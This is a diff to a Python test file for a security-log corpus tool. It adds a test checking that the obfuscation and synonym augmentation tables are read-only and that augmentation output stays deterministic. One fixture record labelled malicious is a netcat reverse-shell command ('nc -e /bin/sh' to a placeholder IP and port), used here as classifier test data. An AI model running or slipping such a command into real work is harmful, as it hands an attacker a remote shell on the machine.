@@ -19,6 +19,8 @@ from aisoc.corpus import (
     jaccard,
     message_tokens,
     mutate_message,
+    obfuscation_table,
+    synonym_table,
 )
 from aisoc.corpus.generate import MAX_GENERATED_ITEMS
 from aisoc.errors import ConfigError
@@ -287,6 +289,19 @@ class TestAugment:
                                  random.Random(0))
         assert "nc" not in mutated.split()
         assert "bash" not in mutated
+
+    @pytest.mark.parametrize("table", [obfuscation_table, synonym_table])
+    def test_tables_are_read_only(self, table):
+        records = [_rec(0, "nc -e /bin/sh 1.2.3.4 4444", Label.MALICIOUS),
+                   _rec(1, "session opened for user root by sshd", Label.BENIGN)]
+        ops = [AugmentOp.KEYWORD_OBFUSCATION, AugmentOp.SYNONYM_REPLACEMENT]
+        before = augment(records, ops, rate=1.0, seed=3)
+        key = next(iter(table()))
+        with pytest.raises(TypeError):
+            table()[key] = ("PATCHED",)
+        with pytest.raises(TypeError):
+            del table()[key]
+        assert augment(records, ops, rate=1.0, seed=3) == before
 
 
 def levenshtein(a: str, b: str) -> int:
